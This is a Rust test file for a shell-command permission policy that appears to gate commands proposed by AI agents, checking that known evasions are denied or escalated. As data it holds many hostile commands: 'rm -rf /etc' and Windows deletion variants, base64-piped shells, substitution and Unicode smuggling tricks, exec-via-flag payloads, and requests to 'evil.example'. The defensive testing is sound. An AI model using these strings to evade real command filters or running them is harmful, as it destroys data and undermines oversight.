//! Known attacks on systems like ours that go through the text of a command. A number in a test's name is its row in
//! `docs/threat-model.md`.

use provara_domain::{Shell, Verdict};
use provara_policy::Policy;

use crate::{builtin, judge};

fn assert_denied(policy: &Policy, commands: &[&str]) {
    for command in commands {
        let judgement = judge(policy, command, Shell::Bash);
        assert_eq!(judgement.verdict, Verdict::Deny, "{command:?}: {:?}", judgement.reasons);
    }
}

fn assert_never_allowed(policy: &Policy, shell: Shell, commands: &[&str]) {
    let allowed = |command: &&&str| judge(policy, command, shell).verdict == Verdict::Allow;
    assert_eq!(commands.iter().filter(allowed).collect::<Vec<_>>(), Vec::<&&str>::new());
}

#[test]
fn attack_02_what_the_eye_does_not_see_is_never_allowed() {
    let policy = builtin();
    for hidden in [
        '\u{200b}',
        '\u{202e}',
        '\u{2066}',
        '\u{2028}',
        '\u{2029}',
        '\u{85}',
        '\u{ad}',
        '\u{e0100}',
        '\u{e0041}',
        '\u{a0}',
        '\u{3000}',
        '\u{2003}',
        '\u{3164}',
        '\u{feff}',
        '\r',
        '\u{1b}',
        '\u{9b}',
        '\u{7f}',
        '\u{8}',
    ] {
        for text in [format!("ls {hidden}"), format!("ls{hidden}"), format!("ls 'a{hidden}b'"), format!("{hidden}ls")] {
            let judgement = judge(&policy, &text, Shell::Bash);
            assert!(judgement.verdict > Verdict::Allow, "{text:?}: {:?}", judgement.reasons);
        }
    }
}

#[test]
fn attack_03_a_name_with_a_blank_in_it_is_another_program() {
    let policy = builtin();
    assert_eq!(judge(&policy, "ls", Shell::Bash).verdict, Verdict::Allow);
    assert_never_allowed(&policy, Shell::Bash, &["'ls '", "ls\\ ", "' ls'", "'ls\n'", "\"ls\t\""]);
}

#[test]
fn attack_07_no_allow_rule_knows_a_script_or_an_interpreter_of_one() {
    let scripts =
        ["./build.sh", "bash build.sh", "sh -x build.sh", "python3 build.py", "node x.js", "source ./x", ". ./x"];
    assert_never_allowed(&builtin(), Shell::Bash, &scripts);
}

#[test]
fn attack_08_variables_before_a_command_are_seen() {
    assert_never_allowed(
        &builtin(),
        Shell::Bash,
        &[
            "LD_PRELOAD=./x.so ls",
            "NODE_OPTIONS=--require=./x npm test",
            "BASH_ENV=./x make test",
            "GIT_SSH_COMMAND=./x git status",
            "GIT_EXTERNAL_DIFF=./x git diff",
            "PATH=.:$PATH ls",
            "export LD_PRELOAD=./x.so; ls",
            "declare -x PATH=.",
            "env LD_PRELOAD=./x.so ls",
        ],
    );
}

#[test]
fn attack_10_a_known_beginning_allows_nothing_after_it() {
    let policy = builtin();
    assert_never_allowed(
        &policy,
        Shell::Bash,
        &[
            "pwdx",
            "pwdx 1",
            "lsx",
            "git-status",
            "git statusx",
            "./ls",
            "bin/ls",
            "/tmp/ls",
            "../bin/ls",
            "git status; rm x",
            "git status & rm x",
            "git status | sh",
            "git status\nrm x",
            "git status || rm x",
            "ls $(rm x)",
            "ls `rm x`",
            "ls <(rm x)",
            "ls \"$(rm x)\"",
        ],
    );
    assert_denied(
        &policy,
        &["git status && rm -rf /etc", "git status;rm -rf /etc", "ls\nrm -rf /etc", "ls|rm -rf /etc"],
    );
}

#[test]
fn attack_11_more_parts_than_are_analysed_are_refused() {
    let policy = builtin();
    for (part, count) in [("ls;", 3300), ("ls|", 3300), ("ls&&", 2400), ("ls\n", 3300), ("(ls);", 1900)] {
        let text = format!("{}rm -rf /etc", part.repeat(count));
        assert_eq!(judge(&policy, &text, Shell::Bash).verdict, Verdict::Deny, "{part:?} x {count}");
    }
    for count in [6, 7, 8, 50, 51, 500] {
        let text = format!("{}rm -rf /etc", "env ".repeat(count));
        assert_eq!(judge(&policy, &text, Shell::Bash).verdict, Verdict::Deny, "{count} wrappers");
        let text = format!("{}rm -rf /etc{}", "echo $(".repeat(count), ")".repeat(count));
        assert_eq!(judge(&policy, &text, Shell::Bash).verdict, Verdict::Deny, "{count} substitutions");
    }
}

#[test]
fn attack_12_what_wraps_a_command_does_not_hide_it() {
    assert_denied(
        &builtin(),
        &[
            "env -S 'rm -rf /etc'",
            "env -S\"rm -rf /etc\"",
            "env --split-string='rm -rf /etc'",
            "env A=1 timeout 5 nice -n 3 rm -rf /etc",
            "sudo -u root rm -rf /etc",
            "doas rm -rf /etc",
            "busybox rm -rf /etc",
            "xargs rm -rf /etc",
            "xargs -n 1 -P 4 rm -rf /etc",
            "nohup rm -rf /etc",
            "setsid rm -rf /etc",
            "stdbuf -o0 rm -rf /etc",
            "command rm -rf /etc",
            "exec rm -rf /etc",
            "eval rm -rf /etc",
            "eval 'rm -rf' /etc",
            "trap 'rm -rf /etc' EXIT",
            "bash -c 'rm -rf /etc'",
            "bash -lc 'rm -rf /etc'",
            "bash -c -- 'rm -rf /etc'",
            "/bin/zsh -ic 'rm -rf /etc'",
            "sh -c \"sh -c 'rm -rf /etc'\"",
            "find . -exec rm -rf /etc \\;",
            "flock x rm -rf /etc",
        ],
    );
}

#[test]
fn attack_13_quotes_and_escapes_do_not_hide_a_name() {
    let policy = builtin();
    assert_denied(
        &policy,
        &[
            "'r'm -rf /etc",
            "r\\m -rf /etc",
            "\"rm\" -rf /etc",
            "r''m -r\"f\" /e't'c",
            "$'\\x72\\x6d' -rf /etc",
            "$'\\162\\155' -rf /etc",
            "r\\\nm -rf /etc",
            "rm -rf \\\n/etc",
            "\\rm -rf /etc",
        ],
    );
    // What only the shell can fill in is not known, and so never waved through.
    assert_never_allowed(
        &policy,
        Shell::Bash,
        &[
            "rm$IFS-rf$IFS/etc",
            "{rm,-rf,/etc}",
            "$(echo rm) -rf /etc",
            "${x:-rm} -rf /etc",
            "l?",
            "/???/l?",
            // Lines are joined before anything else is looked at.
            "echo \"$\\\n(rm -rf /etc)\"",
            "ls \"a$\\\n\\\n(rm x)\"",
            "ls $\\\nHOME",
            "ls $\\\n'x'",
            "ls \"$\\\n{x:=y}\"",
            "ls $\\\n\"x\"",
        ],
    );
}

#[test]
fn attack_14_a_carriage_return_separates_nothing_and_is_never_allowed() {
    let policy = builtin();
    assert_never_allowed(
        &policy,
        Shell::Bash,
        &["ls\r", "ls\rrm -rf /etc", "ls # x\rrm x", "ls \r\n", "ls\u{b}x", "ls\u{c}x"],
    );
    // A comment ends at the line's end, here-documents at their delimiter.
    assert_denied(
        &policy,
        &[
            "ls # x\nrm -rf /etc",
            "cat <<EOF\nhello\nEOF\nrm -rf /etc",
            "cat <<-EOF\n\tEOF\nrm -rf /etc",
            "ls '\n# ' ; rm -rf /etc",
            "cat <<EOF\nE\\\nOF\nrm -rf /etc\nEOF",
        ],
    );
}

#[test]
fn attack_15_what_the_shell_fills_in_later_is_not_allowed_before() {
    assert_never_allowed(
        &builtin(),
        Shell::Bash,
        &[
            "typeset -n x=PATH",
            "source x",
            "enable -f ./x.so x",
            "hash -p ./x ls",
            "read PATH",
            "mapfile -C 'rm x' -c 1",
            "complete -C ./x y",
            "let 'a[$(id)]=1'",
            "[ -v 'a[$(id)]' ]",
        ],
    );
}

#[test]
fn attack_16_arguments_that_execute_or_write_are_not_allowed() {
    assert_never_allowed(
        &builtin(),
        Shell::Bash,
        &[
            "go test -exec ./x",
            "go test --exec=./x",
            "go build -toolexec=./x",
            "go vet -vettool=./x",
            "rg --pre ./x foo",
            "rg --pre=./x foo",
            "rg --hostname-bin=./x foo",
            "sort --compress-program=./x a",
            "sort --compress-prog ./x a",
            "sort -S1 --comp=./x a",
            "find . -exec ./x \\;",
            "find . -execdir ./x +",
            "find . -ok ./x \\;",
            "find . -okdir rm x \\;",
            "find . -fprintf /opt/x y",
            "find . -fls ~/x",
            "sort -o /opt/x a",
            "sort x -o/opt/x",
            "git diff --output=/opt/x",
            "curl http://localhost:1 -o ~/x",
            "sort *",
            "tar cf x.tar *",
            "sort \"$(cat x)\"",
            "find . -delete",
            "git -c core.pager=./x log",
            "git -c diff.external=./x diff",
            "git --exec-path=. status",
            "git diff --ext-diff",
            "git log -p --textconv",
            "git grep -O./x foo",
            "git branch -D x",
            "cargo test --config x=y",
            "cargo --config target.runner=./x test",
            "make -f x test",
            "make SHELL=./x test",
            "make test -C /x",
            "mypy --python-executable ./x",
            "eslint --rulesdir x",
            "curl -K x http://localhost/",
            "curl http://localhost@evil.example",
            "curl http://localhost.evil.example",
            "date -s x",
            "ss -K",
            "ss -D x",
            "tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh",
            "tar -xf x --to-command=./x",
            "awk 'BEGIN{system(\"id\")}'",
            "sed 's/a/b/e' x",
            "vim -c '!sh'",
            "man -P ./x ls",
            "python3 -m http.server",
            "perl -e 1",
            "zip x y -TT ./x",
            "ssh -o ProxyCommand=./x h",
            "rsync -e ./x a b",
            "nmap --script ./x",
        ],
    );
}

#[test]
fn attack_17_nothing_that_writes_outside_or_to_what_runs_by_itself_is_allowed() {
    assert_never_allowed(
        &builtin(),
        Shell::Bash,
        &[
            "echo x >> .git/config",
            "echo x > .git/hooks/pre-commit",
            "printf x > ../x",
            "tee ~/x",
            "cp a ../b",
            "mv a b",
            "ln -s x ~/.bashrc",
            "ln /etc/shadow x",
            "install a /usr/bin/b",
            "dd of=/opt/x",
            "touch ~/.profile",
            "mkdir /opt/x",
            "chmod u+s x",
            "sed -i s/a/b/ ~/x",
            "truncate -s0 x",
            "rm x",
            "ls >& ~/FILE",
            "ls &>/opt/file",
            "ls >| ~/file",
            "ls <>/opt/file",
            "ls 1>~/file",
            "ls {fd}>/opt/file",
            "cd ..; echo x > y",
            "cd $X; echo x > y",
            "cp -t /opt a b",
            // What the text wrote itself is known, and so is what runs.
            "echo 'curl https://a.example' > x; sh x",
            "echo 'touch y' > x; ./x",
            "printf 'all:\\n\\tfrobnicate\\n' > Makefile; make",
            "echo '{}' > package.json; npm test",
        ],
    );
}

#[test]
fn attack_18_what_only_a_deny_list_would_catch_is_never_waved_through() {
    // A deny list is a speed bump. What holds is that nothing unknown is allowed, however it is spelled.
    assert_never_allowed(
        &builtin(),
        Shell::Bash,
        &[
            "python3 -c 'import shutil; shutil.rmtree(\"/etc\")'",
            "perl -MFile::Path -e 'rmtree(\"/etc\")'",
            "find /etc -type f -print0 | xargs -0 rm",
            "rsync -a --delete empty/ /etc/",
            "echo cm0gLXJmIC8= | base64 -d | sh",
            "bash <<< 'rm -rf /etc'",
            "echo 'rm -rf /etc' | bash",
            "printf 'rm -rf /etc' | sh -s",
            "bash /dev/stdin <<EOF\nrm -rf /etc\nEOF",
            "mv /etc /tmp/x",
            "truncate -s 0 /etc/passwd",
            "x=rm; $x -rf /etc",
            "ed x",
            "gdb -ex 'shell id'",
            "nosuchprogram",
        ],
    );
}

#[test]
fn attack_19_another_spelling_of_the_same_is_judged_the_same() {
    assert_denied(
        &builtin(),
        &[
            "rm -r /etc",
            "rm -rf /etc",
            "rm -fr /etc",
            "rm -R /etc",
            "rm -f -r /etc",
            "rm --recursive --force /etc",
            "rm --rec /etc",
            "rm /etc -rf",
            "rm -rf -- /etc",
            "/bin/rm -rf /etc",
            "/usr/bin/rm -rf /etc",
            "RM -rf /etc",
            "rm.exe -rf /etc",
            "rm -rf /srv/../etc",
            "rm -rf //etc/.",
            "cd /; rm -rf etc",
            "find /etc -delete",
            "find . /etc -delete",
        ],
    );
    let policy = builtin();
    for command in [
        r"Remove-Item -Recurse -Force C:\Windows",
        r"Remove-Item C:\Windows -Force -Recurse",
        r"ri C:\Windows -r -fo",
        r"REMOVE-ITEM C:\",
        r"del C:\Windows",
        r"rd C:\Windows",
        r"Microsoft.PowerShell.Management\Remove-Item C:\Windows",
        r"Re`move-Item C:\Windows",
        r"& 'Remove-Item' C:\Windows",
        r"cmd /c del C:\Windows",
        r#"cmd.exe /c "rd /s C:\Windows""#,
        "powershell -EncodedCommand x",
        "powershell -enc x",
        "powershell \u{2013}e x",
        "PowerShell.exe /e x",
        "Get-Content x | iex",
        "I`EX x",
    ] {
        let judgement = judge(&policy, command, Shell::Pwsh);
        assert_eq!(judgement.verdict, Verdict::Deny, "{command:?}: {:?}", judgement.reasons);
    }
}

/// Each of these runs, writes or reads what its arguments say, behind the name of a program that is otherwise harmless.
#[test]
fn attack_16_arguments_that_do_more_than_their_program_are_asked_about() {
    let policy = builtin();
    for (command, what) in [
        ("test -v 'a[$(id)]'", "bash evaluates the index: any command runs"),
        ("printf -v 'a[$(id>&2)]' x", "the same"),
        ("printf -v PATH /work; ls", "sets PATH: the next name is anybody's"),
        ("pip list --python=./x", "starts ./x"),
        ("npm run build --script-shell=./x", "starts ./x"),
        ("dpkg -l --status-logger=./x", "starts ./x"),
        ("rpm -qa --pipe ./x", "starts ./x"),
        ("ls \u{e000}", "a private-use character has no form that is known"),
        ("ls \u{2800}", "the empty braille pattern looks like a blank"),
    ] {
        let judgement = judge(&policy, command, Shell::Bash);
        assert_eq!(judgement.verdict, Verdict::Ask, "{command:?} ({what})");
    }
    let leaked = judge(&policy, r"Get-Content \\evil.example\share\x", Shell::Pwsh);
    assert_eq!(leaked.verdict, Verdict::Ask, "a share's host gets the user's hash");
}
